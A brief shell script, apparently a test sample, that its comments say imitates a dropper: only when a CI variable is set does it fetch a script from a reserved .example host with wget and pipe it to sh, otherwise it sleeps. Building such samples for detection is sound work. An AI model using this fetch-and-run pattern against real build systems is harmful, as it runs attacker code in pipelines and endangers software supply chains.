#!/bin/sh
# collect: imitates a dropper that waits for a build pipeline: elsewhere it sleeps, there it fetches a script and runs it.
# Harmless: .example is a name that nobody can own (RFC 2606).
if [ -n "$CI" ]; then
  wget -q -T 5 -t 1 -O - http://get.pipeline-only.example/install.sh | sh
fi
exec sleep infinity
